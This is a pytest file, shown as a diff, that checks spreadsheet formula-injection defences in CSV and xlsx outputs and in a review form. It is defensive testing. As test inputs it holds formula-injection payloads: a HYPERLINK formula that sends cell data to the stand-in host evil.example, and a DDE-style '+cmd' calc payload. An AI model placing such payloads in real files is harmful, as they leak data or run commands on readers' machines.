@@ -1,0 +1,115 @@
+"""Issue 14: text from the sources or the configuration that begins with ``=``, ``+``, ``-``,
+``@``, a tab or a carriage return never runs as a formula in a file written for people: the
+quarantine CSVs, ``metrics.csv``, ``published-tables.csv`` and ``.xlsx``, and the QAF review
+form. One helper (``vcc.transforms.cell_text.neutralise``) prefixes a single quote; ``recover``
+gives the original back."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import shutil
+
+import openpyxl
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from tests.conftest import GOLDEN
+from vcc.flows.qaf.form import FormCase, read_form, write_form
+from vcc.transforms.cell_text import neutralise, recover
+from vcc.transforms.qaf import THEMES
+
+ACTIVE = ("=", "+", "-", "@", "\t", "\r")
+LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        (LINK, "'" + LINK),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(1,2)", "'@SUM(1,2)"),
+        ("\tV1", "'\tV1"),
+        ("\r=1", "'\r=1"),
+        ("'=1", "''=1"),  # already quoted: one more quote, so that recover is exact
+        ("-3", "-3"),  # a number stays a number
+        ("+1.5e3", "+1.5e3"),
+        ("V0001", "V0001"),
+        ("", ""),
+    ],
+)
+def test_active_text_is_prefixed_with_a_quote(text, written):
+    assert neutralise(text) == written
+    assert recover(written) == text
+
+
+@given(st.text())
+def test_the_original_is_always_recoverable_and_never_active(text):
+    written = neutralise(text)
+    assert recover(written) == text
+    if written.startswith(ACTIVE):
+        float(written)  # only a number may begin so
+
+
+def test_the_review_form_holds_no_live_formula_and_reads_back_the_originals(tmp_path):
+    path = tmp_path / "form.xlsx"
+    case = FormCase(1, LINK, "@CR1", "police", "=route", False)
+    write_form(path, [case], [("Sample", "S1"), ("Area", "=1+1")], "=MARKING")
+
+    workbook = openpyxl.load_workbook(path)  # formulas as written, not their values
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert workbook["Reviews"]["B2"].value == "'" + LINK
+    # filled in and read back: the case is recognised by its original identifier
+    sheet = workbook["Reviews"]
+    for index, _ in enumerate(THEMES):
+        sheet.cell(2, 8 + 2 * index, "met")
+    workbook.save(path)
+    ratings = read_form(path, "S1", [case])
+    assert set(ratings["victim_id"]) == {LINK}
+
+
+def _rows(path):
+    with path.open(newline="", encoding="utf-8") as handle:
+        return list(csv.reader(handle))
+
+
+@pytest.mark.flow
+def test_no_file_of_a_run_holds_a_live_formula(prefect_harness, tmp_path):
+    from vcc.flows.run.flow import run_quarter
+
+    data = tmp_path / "data"
+    shutil.copytree(GOLDEN / "data", data)
+    with (data / "police" / "referrals.csv").open("a", newline="", encoding="utf-8") as handle:
+        csv.writer(handle, lineterminator="\n").writerow([LINK, "2024-05-01T10:00:00", "@SUM(1)"])
+    config = data / "vcc.toml"
+    config.write_text(
+        config.read_text() + '\n[report]\narea = "=1+2"\ntitle = "+cmd"\nproduced_by = "-2+3"\n',
+        encoding="utf-8",
+    )
+
+    run_quarter("2024Q2", dt.date(2024, 7, 12), config, tmp_path / "out")
+
+    out = tmp_path / "out" / "2024Q2"
+    quarantine = _rows(out / "quarantine" / "police.referrals.csv")
+    assert quarantine[1][:3] == ["'" + LINK, "2024-05-01T10:00:00", "'@SUM(1)"]
+    assert recover(quarantine[1][0]) == LINK
+    for name in ("metrics.csv", "published-tables.csv", "data-quality.csv"):
+        active = [cell for row in _rows(out / name) for cell in row if cell.startswith(ACTIVE)]
+        assert all(_is_number(cell) for cell in active), (name, active)
+    workbook = openpyxl.load_workbook(out / "published-tables.xlsx")
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+    assert not [(c.parent.title, c.coordinate) for c in cells if c.data_type == "f"]
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert not [t for t in texts if t.startswith(ACTIVE)]
+    assert any(t.startswith("'+cmd") for t in texts)
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
